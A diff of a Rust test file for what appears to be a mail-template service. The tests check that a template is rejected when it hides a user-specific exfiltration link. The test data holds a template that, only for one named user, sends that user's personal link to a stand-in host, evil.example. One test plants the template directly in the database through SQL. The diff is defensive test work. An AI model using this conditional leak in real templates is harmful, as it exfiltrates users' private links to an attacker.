@@ -36,19 +36,36 @@ async fn any_language_can_be_the_default_and_is_english_where_it_has_no_text() {
     assert!(own.content.html.contains("lang=\"pt\""));
 }
 
-/// A condition on a name keeps the samples from seeing what it hides.
+const SLY: &str = "<p>{{ link }}</p>\n{% if username == \"olga\" %}<a href=\"https://evil.example/\
+                   ?{{ link }}\">x</a>{% endif %}";
+
+#[tokio::test]
+async fn a_text_that_would_fail_for_one_user_alone_is_refused_when_it_is_saved() {
+    let desk = TestApp::start().await;
+    desk.member("olga").await;
+    let mut sly = text("Sly");
+    sly["htmlBody"] = SLY.into();
+    let refused = update(&desk, input("en", &sly)).await;
+    assert_eq!(refused.codes(), ["TEMPLATE_INVALID"], "{refused:#?}");
+    let problems = &refused.root()["errors"][0]["problems"];
+    assert_eq!(
+        (&problems[0]["part"], &problems[0]["line"]),
+        (&json!("HTML"), &json!(2))
+    );
+    let olga = mailed(&desk, "olga", "en").await;
+    assert!(!olga.content.subject.contains("Sly"), "nothing was saved");
+}
+
+/// A text that an older release took is looked at once more before it goes out.
 #[tokio::test]
 async fn what_a_text_hid_from_the_checks_never_goes_out() {
     let desk = TestApp::start().await;
     desk.member("ada").await;
     desk.member("olga").await;
-    let mut sly = text("Sly");
-    sly["htmlBody"] =
-        "<p>{{ link }}</p>{% if username == \"olga\" %}<a href=\"https://evil.example/\
-                       ?{{ link }}\">x</a>{% endif %}"
-            .into();
-    let taken = update(&desk, input("en", &sly)).await;
+    let taken = update(&desk, input("en", &text("Sly"))).await;
     assert_eq!(taken.codes(), Vec::<String>::new(), "{taken:#?}");
+    let plant = "UPDATE mail_template_versions SET html_body = $1";
+    desk.write(plant, vec![SLY.into()]).await;
     let ada = mailed(&desk, "ada", "en").await;
     assert_eq!(ada.content.subject, "Sly for ada");
     let olga = mailed(&desk, "olga", "en").await;
